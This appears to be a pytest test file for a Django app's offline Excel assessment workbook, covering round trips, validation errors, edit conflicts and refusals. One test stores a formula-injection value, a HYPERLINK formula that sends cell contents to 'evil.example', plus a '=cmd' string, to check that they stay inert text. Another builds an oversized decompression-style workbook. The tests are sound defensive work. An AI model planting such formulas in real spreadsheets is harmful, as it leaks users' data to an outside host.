"""The offline workbook: download, fill, upload, preview, confirm; refused when it does not fit."""

import io
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth import get_user_model

from civicspace.accounts.models import Role
from civicspace.assessments.models import Cycle, DimensionScore, Panelist, PanelistScore
from civicspace.assessments.panel_services import (
    DimensionEntry,
    EditConflict,
    panel_get_or_create,
    panelist_add,
    principle_save,
)
from civicspace.assessments.services import SourceInput
from civicspace.assessments.workbook_services import (
    workbook_apply,
    workbook_changes,
    workbook_download,
    workbook_read,
)
from civicspace.countries.models import Country
from civicspace.imports.problems import ImportRefused
from tests.imports.xlsx_files import rebuilt, sheet_xml

pytestmark = pytest.mark.django_db


def cycle(iso2="KZ"):
    return Cycle.objects.get(country__iso2=iso2, year=2025)


def load(data):
    return openpyxl.load_workbook(io.BytesIO(data))


def save(book):
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def problems_of(data, iso2="KZ"):
    with pytest.raises(ImportRefused) as caught:
        workbook_read(cycle=cycle(iso2), data=data)
    return [str(p) for p in caught.value.problems]


def test_the_workbook_has_a_sheet_per_panel_principle_with_validation(programme):
    panelist_add(panel=panel_get_or_create(cycle=cycle()), code="P01")
    book = load(workbook_download(cycle=cycle()))
    assert book.sheetnames == ["Instructions", "Panel", "P2", "P3", "P4", "P5", "P6", "_meta"]
    assert book["_meta"].sheet_state == "hidden"
    assert book["Instructions"].protection.sheet
    p4 = book["P4"]
    assert [p4.cell(row=r, column=1).value for r in (4, 5, 6)] == ["4.1", "4.2", "4.3"]
    assert "access-to-information" in p4["C4"].value
    assert p4.cell(row=3, column=7).value == "P01"
    [validation] = p4.data_validations.dataValidation
    assert validation.type == "list"
    assert "D4" in str(validation.sqref)
    assert validation.formula1.startswith('"1.0,1.1,')
    assert validation.formula1.endswith('5.0"')
    assert not p4["D4"].protection.locked
    assert p4["A4"].protection.locked


def test_download_fill_upload_apply_roundtrip(programme):
    panelist_add(panel=panel_get_or_create(cycle=cycle()), code="P01")
    book = load(workbook_download(cycle=cycle()))
    panel = book["Panel"]
    panel.append(["P02", "media", "", "30-44", "north"])
    p4 = book["P4"]
    p4["H3"] = "P02"
    for row, (agreed, one, two) in enumerate([(2.5, 2, 3), (2.6, 3, 2), (3.0, 3, 3)], start=4):
        p4.cell(row=row, column=4, value=agreed)
        p4.cell(row=row, column=5, value=f"Reasons for row {row}.")
        p4.cell(row=row, column=7, value=one)
        p4.cell(row=row, column=8, value=two)
    p4["F4"] = "Access to information law | https://example.org/law | 2025-01-15 | law"
    upload = workbook_read(cycle=cycle(), data=save(book))
    changes = {
        str(c.where): (str(c.before), str(c.after))
        for c in workbook_changes(cycle=cycle(), upload=upload)
    }
    assert changes["panelist P02"] == ("—", "new")
    assert changes["4.1 agreed score"] == ("—", "2.5")
    assert changes["4.3 panelist P02"] == ("—", "3")
    assert not DimensionScore.objects.exists()  # a preview writes nothing
    workbook_apply(cycle=cycle(), upload=upload)
    stored = {s.dimension: s for s in DimensionScore.objects.all()}
    assert stored["4.1"].value == Decimal("2.5")
    assert stored["4.1"].sources.get().kind == "law"
    assert Panelist.objects.get(code="P02").sector == "media"
    assert PanelistScore.objects.filter(panelist__code="P02").count() == 3
    assert cycle().panel_statistics.figures["dimensions"]["4.1"]["mean"] == 2.5
    again = workbook_read(cycle=cycle(), data=workbook_download(cycle=cycle()))
    assert workbook_changes(cycle=cycle(), upload=again) == []


def test_text_that_looks_like_a_formula_survives_download_and_upload_unchanged(programme):
    """It used to become a live formula, and an unchanged upload then emptied the justification
    and deleted the sources."""
    link = '=HYPERLINK("https://evil.example/?"&B4, "the law")'
    principle_save(
        cycle=cycle(),
        principle="P4",
        entries={
            "4.1": DimensionEntry(
                Decimal("2.0"), link, 0, sources=[SourceInput("=cmd", "https://example.org")]
            )
        },
    )
    data = workbook_download(cycle=cycle())
    assert load(data)["P4"]["E4"].data_type == "s"
    upload = workbook_read(cycle=cycle(), data=data)
    assert workbook_changes(cycle=cycle(), upload=upload) == []
    workbook_apply(cycle=cycle(), upload=upload)
    stored = DimensionScore.objects.get(dimension="4.1")
    assert stored.justification == link
    assert [s.title for s in stored.sources.all()] == ["=cmd"]


def test_errors_name_sheet_and_cell_and_nothing_is_written(programme):
    book = load(workbook_download(cycle=cycle()))
    book["P4"]["D4"] = 6.5
    book["P4"]["E4"] = "Too high."
    book["P5"]["D5"] = 3
    book["P6"]["G6"] = 2
    book["P3"]["A5"] = "3.9"
    assert problems_of(save(book)) == [
        'sheet "P3": dimension 3.2 is missing',
        "sheet \"P3\", cell A5: '3.9' is not a dimension of P3",
        'sheet "P4", cell D4: 6.5 is outside the scale 1-5',
        'sheet "P5", cell E5: dimension 5.2 has a score but no justification',
        'sheet "P6", cell G6: a score with no panelist code above it (write the code in G3)',
    ]
    assert not DimensionScore.objects.exists()


def test_a_workbook_for_another_country_is_refused(programme):
    data = workbook_download(cycle=cycle("KE"))
    assert problems_of(data, "KZ") == ["this workbook was made for KE 2025, not KZ 2025"]


def test_a_workbook_of_an_older_edition_is_refused(programme):
    book = load(workbook_download(cycle=cycle()))
    book["_meta"]["B4"] = "eusee-2024"
    assert problems_of(save(book)) == [
        "this workbook was made with framework edition 'eusee-2024'; this cycle uses"
        " 'eusee-2025': download a new workbook"
    ]


def test_a_file_that_is_not_our_workbook_is_refused(programme):
    assert problems_of(save(openpyxl.Workbook()))[0].startswith("this is not a civicspace panel")
    assert "could not be opened" in problems_of(b"plain text")[0]


def test_changes_made_online_after_download_block_the_upload(programme):
    data = workbook_download(cycle=cycle())
    principle_save(
        cycle=cycle(),
        principle="P4",
        entries={"4.1": DimensionEntry(Decimal("2.0"), "Changed online meanwhile.", 0)},
    )
    book = load(data)
    book["P4"]["D4"] = 3.5
    book["P4"]["E4"] = "Offline edit."
    with pytest.raises(EditConflict) as conflict:
        workbook_apply(cycle=cycle(), upload=workbook_read(cycle=cycle(), data=save(book)))
    assert set(conflict.value.conflicts) == {"4.1"}
    assert DimensionScore.objects.get().justification == "Changed online meanwhile."


def member(client, iso2="KZ"):
    user = get_user_model().objects.create_user(f"m-{iso2}", password="a-long-test-password")
    Role.objects.create(user=user, kind="member", country=Country.objects.get(iso2=iso2))
    client.force_login(user)


def test_upload_preview_and_confirm_through_the_pages(programme, client):
    member(client)
    book = load(client.get("/workspace/KZ/2025/workbook.xlsx").content)
    book["P2"]["D4"] = 2
    book["P2"]["E4"] = "Registration takes months."
    upload = io.BytesIO(save(book))
    upload.name = "filled.xlsx"
    preview = client.post("/workspace/KZ/2025/workbook/", {"workbook": upload}).content.decode()
    assert "2.1 agreed score" in preview
    assert "Apply these changes" in preview
    assert not DimensionScore.objects.exists()
    done = client.post("/workspace/KZ/2025/workbook/", {"confirm": ""}, follow=True)
    assert "The workbook was applied." in done.content.decode()
    assert DimensionScore.objects.get().value == 2


def test_upload_problems_are_listed_on_the_page(programme, client):
    member(client)
    book = load(client.get("/workspace/KZ/2025/workbook.xlsx").content)
    book["P2"]["D4"] = "lots"
    upload = io.BytesIO(save(book))
    upload.name = "filled.xlsx"
    page = client.post("/workspace/KZ/2025/workbook/", {"workbook": upload}).content.decode()
    assert "sheet &quot;P2&quot;, cell D4: &#x27;lots&#x27; is not a number" in page
    assert "Apply these changes" not in page


def test_a_workbook_that_unpacks_to_millions_of_cells_is_refused_on_the_page(programme, client):
    member(client)
    genuine = client.get("/workspace/KZ/2025/workbook.xlsx").content
    rows = [b"<row>" + b"<c><v>1</v></c>" * 1_000 + b"</row>"] * 5_000
    upload = io.BytesIO(
        rebuilt(genuine, add={"xl/worksheets/extra.xml": sheet_xml(rows)}, sheets=["Extra"])
    )
    upload.name = "filled.xlsx"
    page = client.post("/workspace/KZ/2025/workbook/", {"workbook": upload}).content.decode()
    assert "more than the 10 MB allowed; delete unused sheets, rows and columns" in page
    assert "Apply these changes" not in page


@pytest.mark.parametrize(
    "url", ["/workspace/KE/2025/workbook.xlsx", "/workspace/KE/2025/workbook/"]
)
def test_another_countrys_workbook_is_404(programme, client, url):
    member(client)
    assert client.get(url).status_code == 404
